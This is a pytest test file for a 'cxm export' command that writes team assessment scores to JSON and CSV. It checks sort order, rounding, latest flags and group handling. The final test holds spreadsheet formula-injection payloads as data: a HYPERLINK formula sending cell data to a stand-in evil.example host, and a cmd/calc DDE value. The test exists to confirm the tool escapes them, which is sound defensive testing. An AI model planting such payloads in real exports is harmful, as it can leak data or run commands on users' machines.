"""`cxm export`: the JSON and CSV exports of scores, sorted by team slug then date."""

from __future__ import annotations

import csv
import io
import json

from conftest import ASSESSMENT

HEAD = """\
team: Payments Platform
date: 2026-09-30
assessors: [Dana Lee, Sam Ortiz, Kim Park]
"""


def _export_repo(repo):
    repo.assessment("zeta/2026-09-30.yaml", ASSESSMENT.replace("Payments Platform", "Zeta Team"))
    # "Ölwerk" sorts after "Zeta" by name but its slug "olwerk" sorts before "zeta-team".
    repo.assessment("olwerk/b.yaml", ASSESSMENT.replace("Payments Platform", "Ölwerk"))
    repo.assessment(
        "olwerk/a.yaml",
        (HEAD.replace("Payments Platform", "Ölwerk").replace("2026-09-30", "2026-03-31"))
        + "scores:\n  support: {self_service: 2, onboarding: 3}\n"
        "  marketing: {product_promise: 2, reviews: 2}\n",
    )


def test_json_export_has_the_contract_keys_sorted_by_slug_then_date(repo, cxm):
    _export_repo(repo)
    result = cxm("export", "--format", "json")
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert data["framework"]["id"] == "tiny" and data["framework"]["version"] == 3
    rows = data["assessments"]
    assert [(r["slug"], r["date"]) for r in rows] == [
        ("olwerk", "2026-03-31"),
        ("olwerk", "2026-09-30"),
        ("zeta-team", "2026-09-30"),
    ]
    for row in rows:
        assert {"team", "slug", "group", "date", "path", "overall", "stage", "areas"} <= set(row)
    first, second, _ = rows
    assert first["team"] == "Ölwerk" and first["path"] == "assessments/olwerk/a.yaml"
    assert first["group"] is None and second["group"] == "Digital Channels"
    # Not assessed: absent.  support (2 x 2 + 3) / 3 = 7/3 = 2.33, gap 3 - 7/3 = 0.67
    # marketing 2, gap 1; overall (7/3 x 2 + 2) / 3 = (20/3) / 3 = 20/9 = 2.22
    assert set(first["areas"]) == {"support", "marketing"}
    assert {k: first["areas"]["support"][k] for k in ("score", "target", "gap")} == {
        "score": 2.33,
        "target": 3,
        "gap": 0.67,
    }
    assert first["overall"] == 2.22 and first["stage"] == "Emerging"
    # 37/12 = 3.0833 -> 3.08; support 11/3 -> 3.67, gap 0
    assert second["overall"] == 3.08 and second["stage"] == "Defined"
    assert second["areas"]["support"]["score"] == 3.67 and second["areas"]["support"]["gap"] == 0


def test_json_export_numbers_have_at_most_two_decimals(repo, cxm):
    _export_repo(repo)
    data = json.loads(cxm("export").out)

    def numbers(value):
        if isinstance(value, dict):
            for item in value.values():
                yield from numbers(item)
        elif isinstance(value, list):
            for item in value:
                yield from numbers(item)
        elif isinstance(value, float):
            yield value

    found = list(numbers(data))
    assert found and all(round(n, 2) == n for n in found)


def test_csv_export_has_one_row_per_assessment_and_assessed_area(repo, cxm, tmp_path):
    _export_repo(repo)
    out = tmp_path / "out" / "scores.csv"
    result = cxm("export", "--format", "csv", "-o", out)
    assert result.code == 0 and result.out == ""
    text = out.read_text(encoding="utf-8")
    # The contract's columns first and unchanged (CLI.md), then those added for spreadsheets.
    assert text.splitlines()[0] == (
        "team,slug,group,date,area,score,target,gap,overall,stage,area_name,stage_level,latest"
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["slug"], r["date"], r["area"]) for r in rows] == [
        ("olwerk", "2026-03-31", "support"),
        ("olwerk", "2026-03-31", "marketing"),
        ("olwerk", "2026-09-30", "support"),
        ("olwerk", "2026-09-30", "marketing"),
        ("olwerk", "2026-09-30", "policies"),
        ("zeta-team", "2026-09-30", "support"),
        ("zeta-team", "2026-09-30", "marketing"),
        ("zeta-team", "2026-09-30", "policies"),
    ]
    assert rows[0] == {
        "team": "Ölwerk",
        "slug": "olwerk",
        "group": "",
        "date": "2026-03-31",
        "area": "support",
        "score": "2.33",
        "target": "3",
        "gap": "0.67",
        "overall": "2.22",
        "stage": "Emerging",
        "area_name": "Support",
        "stage_level": "2",
        "latest": "FALSE",
    }
    assert rows[2]["score"] == "3.67" and rows[2]["gap"] == "0.00"


def test_csv_and_json_say_which_assessment_is_each_teams_latest(repo, cxm):
    _export_repo(repo)
    rows = list(csv.DictReader(io.StringIO(cxm("export", "--format", "csv").out)))
    latest = {(r["slug"], r["date"], r["latest"]) for r in rows}
    assert latest == {
        ("olwerk", "2026-03-31", "FALSE"),
        ("olwerk", "2026-09-30", "TRUE"),
        ("zeta-team", "2026-09-30", "TRUE"),
    }
    assert {(r["area"], r["area_name"]) for r in rows} == {
        ("support", "Support"),
        ("marketing", "Marketing"),
        ("policies", "Policies"),
    }
    assert {(r["stage"], r["stage_level"]) for r in rows} == {("Emerging", "2"), ("Defined", "3")}
    data = json.loads(cxm("export", "--format", "json").out)
    assert [(r["slug"], r["latest"]) for r in data["assessments"]] == [
        ("olwerk", False),
        ("olwerk", True),
        ("zeta-team", True),
    ]


def test_a_team_without_a_group_is_empty_in_csv_null_in_json_and_ungrouped_on_the_site(
    repo, cxm, tmp_path
):
    _export_repo(repo)  # Ölwerk's first assessment has no group
    rows = list(csv.DictReader(io.StringIO(cxm("export", "--format", "csv").out)))
    assert {r["group"] for r in rows if r["date"] == "2026-03-31"} == {""}
    data = json.loads(cxm("export", "--format", "json").out)
    assert data["assessments"][0]["group"] is None
    repo.assessment("solo/2026-09-30.yaml", HEAD.replace("Payments Platform", "Solo")
                    + "scores:\n  support: {self_service: 2, onboarding: 3}\n")  # fmt: skip
    assert cxm("generate", "-o", tmp_path / "out").code == 0
    page = (tmp_path / "out" / "groups" / "ungrouped" / "index.md").read_text("utf-8")
    assert page.startswith("# Ungrouped") and "Solo" in page


def test_a_group_named_ungrouped_is_a_warning_not_a_silent_merge(repo, cxm):
    repo.assessment("solo/2026-09-30.yaml", HEAD.replace("Payments Platform", "Solo")
                    + "scores:\n  support: {self_service: 2, onboarding: 3}\n")  # fmt: skip
    repo.assessment("named/2026-09-30.yaml", HEAD.replace("Payments Platform", "Named")
                    + "group: UNGROUPED\nscores:\n  support: {self_service: 2}\n")  # fmt: skip
    result = cxm("validate")
    assert result.code == 0
    [line] = [x for x in result.out.splitlines() if "[group-collision]" in x]
    assert line.startswith("assessments/named/2026-09-30.yaml:4:8: warning: group 'UNGROUPED'")
    assert "'Solo'" in line and "assessments/solo/2026-09-30.yaml" in line
    assert cxm("validate", "--strict").code == 1


def test_csv_export_and_site_download_write_a_formula_as_text(repo, cxm, tmp_path):
    # Text from a YAML file a spreadsheet would run: the export and the site's scores.csv
    # write it with a leading ' (shown as text), the numbers as they are.
    team = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    group = " @SUM(1+1)*cmd|' /C calc'!A0"
    repo.assessment(
        "evil/2026-09-30.yaml",
        ASSESSMENT.replace("Payments Platform", json.dumps(team)).replace(
            "Digital Channels", json.dumps(group)
        ),
    )
    result = cxm("export", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out, newline="")))
    assert [(r["team"], r["group"]) for r in rows] == [(f"'{team}", f"'{group}")] * 3
    first = rows[0]
    assert (first["score"], first["gap"], first["overall"]) == ("3.67", "0.00", "3.08")
    assert cxm("generate", "-o", tmp_path / "out").code == 0
    [download] = (tmp_path / "out").rglob("scores.csv")
    assert download.read_text(encoding="utf-8") == result.out
